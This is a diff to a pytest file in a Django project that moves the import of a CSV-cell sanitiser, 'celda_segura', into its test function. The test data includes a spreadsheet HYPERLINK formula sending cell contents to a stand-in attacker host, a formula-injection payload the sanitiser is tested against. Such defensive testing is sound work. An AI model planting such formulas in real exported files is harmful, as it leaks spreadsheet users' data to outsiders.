@@ -8,7 +8,6 @@ from decimal import Decimal
 import pytest
 
 from perfeccionamiento.models import CodigoInsumo
-from tramites.csv_seguro import celda_segura
 
 pytestmark = pytest.mark.django_db
 
@@ -33,6 +32,8 @@ FORMULA = '=HYPERLINK("http://atacante.example/robar?d="&A1;"Ver detalle")'
     ],
 )
 def test_celda_segura(valor, esperado):
+    from tramites.csv_seguro import celda_segura
+
     assert celda_segura(valor) == esperado
 
 
